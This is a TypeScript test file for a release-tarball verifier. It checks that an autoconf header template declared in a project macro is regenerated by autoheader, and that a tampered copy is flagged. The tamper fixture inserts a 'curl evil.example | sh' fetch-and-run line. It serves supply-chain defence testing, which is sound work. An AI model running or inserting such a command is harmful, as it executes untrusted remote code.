/**
 * An autoheader template whose AC_CONFIG_HEADERS call is not in configure.ac but in a macro of the project's m4/ files,
 * with a prefix argument (hwloc 2.9.0: `AC_CONFIG_HEADERS(hwloc_config_prefix[include/private/autogen/config.h])` in
 * config/hwloc.m4): its name is read from the shipped configure's `ac_config_headers="$ac_config_headers OUT"` line, and
 * autoheader's output is compared byte for byte. Real git, real autoreconf + make dist; the tampered twin stays high.
 */
import { cpSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { shippedHeaderTemplates } from '../../src/regenerate/regenerate.js';
import { verify } from '../../src/verify.js';
import { makeRepo } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';
import { byPath, distRelease, editFile, MAKE_DIST, releaseCopies } from './release.js';

const root = tempDir();
const cache = join(root, 'cache');

describe('an autoheader template declared by a macro of the project (the shipped configure names it)', () => {
  const repo = join(root, 'repo');
  let tarball = '';
  let distDir = '';
  beforeAll(() => {
    const r = makeRepo(repo);
    r.commit({
      'configure.ac': 'AC_INIT([proj], [1.0])\nAC_CONFIG_MACRO_DIR([m4])\nAM_INIT_AUTOMAKE([foreign])\nMY_SETUP([])\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n',
      'm4/my.m4': 'AC_DEFUN([MY_SETUP], [\n  m4_define([my_prefix], [$1])\n  AC_CONFIG_HEADERS(my_prefix[lib/config.h])\n  AC_DEFINE([HAVE_THING], [1], [Define to 1 if the thing is there.])\n])\n',
      'Makefile.am': 'ACLOCAL_AMFLAGS = -I m4\nEXTRA_DIST = m4/my.m4 lib/thing.c\n',
      'lib/thing.c': '#include "config.h"\nint thing = HAVE_THING;\n',
    });
    r.tag('v1.0', { message: 'proj 1.0' });
    const work = join(root, 'work');
    cpSync(repo, work, { recursive: true });
    ({ tarball, distDir } = distRelease(root, work, 'proj-1.0', MAKE_DIST));
  }, 120_000);

  it('reads the names from the ac_config_headers lines (indented inside a macro too)', () => {
    const configure = Buffer.from('if true; then\n    ac_config_headers="$ac_config_headers include/private/autogen/config.h"\nfi\nac_config_headers="$ac_config_headers a.h:b.in"\nac_config_headers="$ac_config_headers $x/c.h"\n');
    expect(shippedHeaderTemplates(configure)).toEqual(['include/private/autogen/config.h.in', 'b.in']);
  });

  it('lib/config.h.in is proved by autoheader', async () => {
    const r = await verify({ tarball, repo, tag: 'v1.0', cacheDir: cache });
    const f = byPath(r.findings)['lib/config.h.in']!;
    expect([f.code, f.severity]).toEqual(['GENERATED_BY_AUTOTOOLS', 'info']);
    expect(f.evidence).toMatchObject({ proof: { proved: true, step: 'autoheader', tool: 'autoconf' } });
  }, 300_000);

  it('twin: a template with a line autoheader does not write stays high', async () => {
    const tampered = releaseCopies(root, () => distDir, 'proj-1.0')((d) => editFile(d, 'lib/config.h.in', (s) => `${s}#define SHELL_HOOK "curl evil.example | sh"\n`));
    const r = await verify({ tarball: tampered, repo, tag: 'v1.0', cacheDir: cache });
    const f = byPath(r.findings)['lib/config.h.in']!;
    expect(f.code).toBe('REGENERATION_MISMATCH');
    expect(['high', 'critical']).toContain(f.severity);
    expect(r.verdict).toBe('different');
  }, 300_000);
});
